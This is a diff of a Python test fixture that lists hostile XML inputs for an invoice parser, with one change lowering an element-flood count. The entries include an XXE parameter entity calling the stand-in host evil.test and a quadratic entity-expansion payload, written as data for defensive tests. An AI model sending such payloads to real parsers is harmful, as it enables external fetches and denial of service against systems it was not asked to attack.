@@ -269,7 +269,7 @@ HOSTILE = {
     "a parameter entity": b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.test/x">%x;]><Invoice/>',
     "a quadratic blowup": b'<!DOCTYPE a [<!ENTITY a "' + b"a" * 50_000 + b'">]><Invoice>' + b"&a;" * 5000 + b"</Invoice>",
     "an undeclared entity": b"<Invoice>&nbsp;</Invoice>",
-    "too many elements": b"<a>" + b"<b/>" * 600_000 + b"</a>",
+    "too many elements": b"<a>" + b"<b/>" * 260_000 + b"</a>",
     "an invoice in name only": b"<Invoice/>",
 }  # fmt: skip
 
